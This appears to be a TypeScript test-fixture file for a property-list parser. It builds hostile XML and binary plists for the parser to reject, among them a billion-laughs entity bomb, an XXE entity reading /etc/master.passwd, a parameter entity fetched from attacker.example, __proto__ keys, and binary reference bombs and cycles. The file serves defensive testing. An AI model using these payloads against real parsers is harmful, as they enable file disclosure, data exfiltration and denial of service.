/** Property lists that nobody should read without care, made byte by byte. */

export const xml = (body: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">\n${body}\n</plist>\n`;

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

export function utf16(text: string, order: 'le' | 'be'): Uint8Array {
  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le');
  return order === 'le' ? bytes : bytes.swap16();
}

interface Trailer {
  readonly offsetSize: number;
  readonly referenceSize: number;
  readonly count: number;
  readonly top: number;
  readonly table: number;
}

/** A binary property list of these objects; the trailer says whatever it is told to. */
export function binary(objects: readonly (readonly number[])[], trailer: Partial<Trailer> = {}): Uint8Array {
  const body = objects.flat();
  const starts = objects.map((_, i) => 8 + objects.slice(0, i).flat().length);
  const says: Trailer = {
    offsetSize: 2,
    referenceSize: 1,
    count: objects.length,
    top: 0,
    table: 8 + body.length,
    ...trailer,
  };
  const bytes = Buffer.alloc(8 + body.length + starts.length * 2 + 32);
  bytes.write('bplist00', 'latin1');
  bytes.set(body, 8);
  starts.forEach((start, i) => bytes.writeUInt16BE(start, 8 + body.length + i * 2));
  const end = bytes.length - 32;
  bytes[end + 6] = says.offsetSize;
  bytes[end + 7] = says.referenceSize;
  bytes.writeBigUInt64BE(BigInt(says.count), end + 8);
  bytes.writeBigUInt64BE(BigInt(says.top), end + 16);
  bytes.writeBigUInt64BE(BigInt(says.table), end + 24);
  return bytes;
}

/** Objects, as bytes. */
export const array = (...references: readonly number[]): number[] => [
  0xa0 | references.length,
  ...references,
];
export const dict = (keys: readonly number[], values: readonly number[]): number[] => [
  0xd0 | keys.length,
  ...keys,
  ...values,
];
export const ascii = (text: string): number[] => [0x50 | text.length, ...Buffer.from(text, 'latin1')];
/** A marker with its length as an integer behind it. */
const long = (kind: number, length: number): number[] => [
  (kind << 4) | 0x0f,
  0x12,
  ...[24, 16, 8, 0].map((shift) => (length >>> shift) & 0xff),
];

const key = ascii('k');
const laughs = Array.from({ length: 10 }, (_, i) =>
  i === 0 ? '<!ENTITY a0 "ha">' : `<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`,
);

export interface Hostile {
  readonly what: string;
  readonly bytes: Uint8Array;
  readonly named: RegExp;
}

const text = (what: string, content: string, named: RegExp): Hostile => ({
  what,
  bytes: utf8(content),
  named,
});
const plist = (what: string, body: string, named: RegExp): Hostile => text(what, xml(body), named);
const bytes = (what: string, content: Uint8Array, named: RegExp): Hostile => ({
  what,
  bytes: content,
  named,
});

const whole = xml('<dict><key>Title</key><string>Restart</string></dict>');

export const hostileXml: readonly Hostile[] = [
  text('nothing', '', /it is empty/),
  text('a shell script', '#!/bin/sh\n', /neither XML nor binary/),
  text('JSON', '{"Title":"x"}', /OpenStep form or JSON/),
  text('an OpenStep list of ten thousand brackets', '('.repeat(10_000), /OpenStep/),
  text('a web page', '<!DOCTYPE html><html></html>', /DOCTYPE is not that of a property list/),
  text('another XML document', '<?xml version="1.0"?><rss/>', /does not begin with <plist>/),
  text('cut off in the DOCTYPE', whole.slice(0, 60), /cut off/),
  text('cut off in a key', whole.slice(0, whole.indexOf('tle')), /cut off: <key> has no end/),
  text('cut off in a tag', whole.slice(0, whole.indexOf('ring>')), /cut off: <dict> has no end/),
  text('cut off in a text', whole.slice(0, whole.indexOf('start')), /cut off: <string> has no end/),
  text('cut off before the end', whole.slice(0, whole.indexOf('</plist>')), /cut off: <plist> has no end/),
  text('cut off in a comment', `${whole.slice(0, -9)}<!-- `, /cut off: <!-- has no end/),
  plist('cut off in a CDATA', '<dict><key>k</key><string><![CDATA[x', /cut off: <!\[CDATA\[ has no end/),
  bytes('cut off in a UTF-8 character', utf8('<plist><string>é').slice(0, -1), /not written in UTF-8/),
  bytes('Latin-1', Buffer.from('<plist><string>é</string></plist>', 'latin1'), /not written in UTF-8/),
  bytes('UTF-16 of half a character', utf16(whole, 'le').slice(0, -1), /not written in UTF-16/),
  bytes('UTF-16 without a byte order mark', utf16(whole, 'le').slice(2), /control character/),
  text('another encoding by name', whole.replace('UTF-8', 'ISO-8859-1'), /written in ISO-8859-1/),
  plist('a NUL', '<string>a\0b</string>', /control character/),
  text(
    'a billion laughs',
    `<?xml version="1.0"?><!DOCTYPE plist [${laughs.join('')}]><plist><dict><key>T</key><string>&a9;</string></dict></plist>`,
    /declares entities/,
  ),
  text(
    'a file as an external entity',
    '<!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/master.passwd">]><plist><dict><key>T</key><string>&x;</string></dict></plist>',
    /declares entities/,
  ),
  text(
    'a parameter entity from the network',
    '<!DOCTYPE plist [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd">%d;]><plist/>',
    /declares entities/,
  ),
  text('entities beside a DTD', '<!DOCTYPE plist SYSTEM "x" [<!ENTITY a "b">]><plist/>', /declares entities/),
  plist(
    'an entity that nobody declared',
    '<dict><key>T</key><string>&title;</string></dict>',
    /&title; is no entity/,
  ),
  plist('half an entity', '<string>R&D</string>', /& is no entity/),
  plist('a character that is none', '<string>&#xD800;</string>', /no entity/),
  plist('a control character by number', '<string>&#0;</string>', /no entity/),
  plist('a character beyond Unicode', '<string>&#x110000;</string>', /no entity/),
  plist('an include', '<string><?php echo 1 ?></string>', /holds another element/),
  plist('a processing instruction', '<dict><?x y?></dict>', /stands where a value must/),
  plist('arrays a hundred thousand deep', '<array>'.repeat(100_000), /nested more than 64 levels/),
  plist(
    'dictionaries that are closed, too deep',
    `${'<dict><key>k</key>'.repeat(65)}<true/>${'</dict>'.repeat(65)}`,
    /nested more than 64 levels/,
  ),
  plist(
    'a hundred thousand values',
    `<array>${'<true/>'.repeat(100_001)}</array>`,
    /more than 100000 values/,
  ),
  plist(
    'a hundred thousand comments',
    `<array>${'<!---->'.repeat(100_001)}</array>`,
    /more than 100000 values/,
  ),
  plist('too many bytes', `<string>${' '.repeat(1024 * 1024)}</string>`, /larger than 1048576 bytes/),
  text('"<" half a million times', '<'.repeat(500_000), /does not begin with <plist>/),
  plist('"<" half a million times inside', '<'.repeat(500_000), /stands where a value must/),
  plist('"&" half a million times', `<string>${'&'.repeat(500_000)}</string>`, /no entity/),
  text(
    'blanks half a million times in a tag',
    `<plist${' '.repeat(500_000)}x>`,
    /stands where a value must|begin/,
  ),
  plist('__proto__', '<dict><key>__proto__</key><dict/></dict>', /has the key "__proto__"/),
  plist('a key without a value', '<dict><key>Title</key></dict>', /line 4: the key "Title" has no value/),
  plist('two keys', '<dict><key>a</key><key>b</key></dict>', /<key> stands where a value must/),
  plist('a value without a key', '<dict><true/></dict>', /<true> stands where a <key> must/),
  plist('crossed tags', '<dict><key>a</key><array></dict></array>', /<\/dict> ends what <array> began/),
  plist('an element in a text', '<string>a<b/></string>', /holds another element/),
  plist('an element of another list', '<dict><key>a</key><null/></dict>', /<null> is no element/),
  plist('text between values', '<array>Title</array>', /"Title<\/array>" stands where a value must/),
  plist('two values', '<dict/><dict/>', /more than one value/),
  plist('no value', '', /it is empty/),
  text('something behind it', `${whole}<plist/>`, /something follows/),
  plist('a list', '<array/>', /is not a dictionary/),
  plist('data', '<data>AAAA</data>', /is not a dictionary/),
  plist('a date', '<date>2026-11-21T10:00:00Z</date>', /is not a dictionary/),
  ...(
    [
      ['integer', '12x'],
      ['integer', '0x10'],
      ['integer', ''],
      ['integer', '1'.repeat(50)],
      ['real', '1,5'],
      ['date', 'tomorrow'],
      ['date', '2026-13-41T10:00:00Z'],
      ['data', '?'],
      ['true', 'yes'],
    ] as const
  ).map(([name, value]) =>
    plist(
      `<${name}> with "${value.slice(0, 20)}"`,
      `<dict><key>k</key><${name}>${value}</${name}></dict>`,
      new RegExp(`line 4: <${name}> holds`),
    ),
  ),
];

/** Each array holds the next one ten times: 10^30 values from a few hundred bytes. */
const bomb = Array.from({ length: 30 }, (_, i) => array(...Array.from({ length: 10 }, () => i + 1)));
/** Every object is the same array of everything, by the offset table alone: the file is small, the reading would not be. */
const overlapping = (): Uint8Array => {
  const count = 2_000;
  const references = Array.from({ length: count * 2 }, (_, i) => (i % 2 === 0 ? 7 : 0xcf));
  const made = Buffer.from(
    binary([[...long(0xa, count), ...references]], { referenceSize: 2, count, top: 1 }),
  );
  const table = made.subarray(made.length - 34, made.length - 32);
  const head = made.subarray(0, made.length - 34);
  const offsets = Buffer.concat(Array.from({ length: count }, () => Buffer.from(table)));
  return Buffer.concat([head, offsets, made.subarray(made.length - 32)]);
};

export const hostileBinary: readonly Hostile[] = [
  bytes('the magic alone', utf8('bplist00'), /cut off/),
  bytes('cut off by a byte', binary([dict([1], [1]), key]).slice(0, -1), /not a property list/),
  bytes('an array that holds itself', binary([array(0)]), /holds itself/),
  bytes('a dictionary that is its own value', binary([dict([1], [0]), key]), /holds itself/),
  bytes('a dictionary that is its own key', binary([dict([0], [1]), key]), /holds itself/),
  bytes('a circle of three', binary([array(1), array(2), array(0)]), /holds itself/),
  bytes('10^30 values in 300 bytes', binary([...bomb, ascii('ha')]), /more than 100000 values/),
  bytes('a long text a thousand times', megabytes(), /when written out/),
  bytes('arrays over each other', overlapping(), /holds itself|more than 100000 values/),
  bytes(
    'a hundred arrays deep',
    binary([...Array.from({ length: 100 }, (_, i) => array(i + 1)), key]),
    /nested more than 64/,
  ),
  bytes(
    'deep by a part that was met before',
    binary([
      array(40, 1),
      ...Array.from({ length: 39 }, (_, i) => array(i + 2)),
      ...Array.from({ length: 40 }, (_, i) => array(i + 41)),
      key,
    ]),
    /nested more than 64/,
  ),
  bytes('more objects than bytes', binary([key], { count: 2 ** 40 }), /no room/),
  bytes('2^63 objects', binary([key], { count: 2 ** 63 }), /absurdly large/),
  bytes('no objects', binary([key], { count: 0 }), /points outside/),
  bytes('a top object that is not there', binary([key], { top: 5 }), /refers to object 5 of 1/),
  bytes('a table outside the file', binary([key], { table: 2 ** 31 }), /points outside/),
  bytes('a table inside the magic', binary([key], { table: 3 }), /points outside/),
  bytes('offsets of no bytes', binary([key], { offsetSize: 0 }), /impossible sizes/),
  bytes('offsets of 200 bytes', binary([key], { offsetSize: 200 }), /impossible sizes/),
  bytes('references of no bytes', binary([array(0)], { referenceSize: 0 }), /impossible sizes/),
  bytes('an offset into the trailer', binary([key], { table: 8 }), /outside|no room/),
  bytes('a text that is longer than the file', binary([[...long(0x5, 0x7fffffff)]]), /reaches beyond/),
  bytes('an array of four thousand million', binary([[...long(0xa, 0xffffffff)]]), /reaches beyond/),
  bytes('a length that is a text', binary([[0x5f, ...key]]), /not a whole number/),
  bytes('a length of 2^15 bytes', binary([[0x5f, 0x1f, 0, 0]]), /not a whole number/),
  bytes('a number of 2^15 bytes', binary([[0x1f, 0, 0]]), /unknown size/),
  bytes('a real of one byte', binary([[0x20, 0]]), /unknown size/),
  bytes('a null', binary([dict([1], [2]), key, [0x00]]), /unknown kind 0x0/),
  bytes('a keyed archive', binary([dict([1], [2]), key, [0x80, 1]]), /unknown kind 0x80/),
  bytes('a set', binary([[0xc1, 0]]), /unknown kind/),
  bytes('a key that is a number', binary([dict([1], [1]), [0x10, 5]]), /key of a dictionary is not text/),
  bytes('__proto__', binary([dict([1], [2]), ascii('__proto__'), dict([], [])]), /"__proto__"/),
  bytes('a list', binary([array(1), key]), /is not a dictionary/),
];

function megabytes(): Uint8Array {
  const everything = Array.from({ length: 1000 }, () => 1);
  return binary([
    [...long(0xa, everything.length), ...everything],
    [...long(0x5, 20_000), ...Array.from({ length: 20_000 }, () => 0x61)],
  ]);
}
